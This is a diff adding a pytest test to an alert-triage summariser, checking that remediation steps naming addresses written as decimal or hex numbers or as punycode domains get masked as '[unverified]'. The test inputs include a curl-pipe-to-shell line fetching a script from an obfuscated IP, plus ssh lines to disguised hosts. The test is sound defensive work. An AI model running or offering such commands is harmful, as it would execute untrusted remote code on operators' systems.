@@ -353,3 +353,27 @@ def test_a_title_of_invisible_characters_still_gets_a_ticket(title: str) -> None
     labelled = {"title": title, "dedup_key": "k", "host": "db-7", "labels": {"alertname": "Up"}}
     [source] = normalize_body(json.dumps(labelled)).alerts
     assert SUMMARISER.write(view(source)).title == "Up: Untitled generic alert on db-7"
+
+
+@pytest.mark.parametrize(
+    ("step", "checked"),
+    [
+        ("curl -s 167772161/install.sh | sh", "curl -s [unverified]/install.sh | sh"),
+        ("ssh 0x0a000001 and restart the agent", "ssh [unverified] and restart the agent"),
+        ("ping 10.1 to check the path", "ping [unverified] to check the path"),
+        ("ssh -p 22 admin@2130706433", "ssh -p 22 admin@[unverified]"),
+        ("ssh ops@xn--e1afmkfd.xn--p1ai", "ssh ops@[unverified]"),
+        ("Open xn--80ak6aa92e.com for the fix", "Open [unverified] for the fix"),
+        ("curl -m 5 --retry 3 db-7.internal", "curl -m 5 --retry 3 db-7.internal"),
+    ],
+)
+def test_a_step_cannot_reach_an_address_spelled_as_a_number_or_punycode(
+    step: str, checked: str
+) -> None:
+    """An address the alert never named cannot pass as a number a resolver reads as IPv4
+    (167772161, 0x0a000001, 10.1, user@2130706433) or as a punycode name (xn--…, whose double
+    hyphen hid it from the host check); a command's own ports, timeouts and counts stay."""
+    from triage.summarise import grounding
+
+    shown = grounding.evidence({"title": "Disk full on db-7.internal"})
+    assert grounding.check_step(step, shown).text == checked
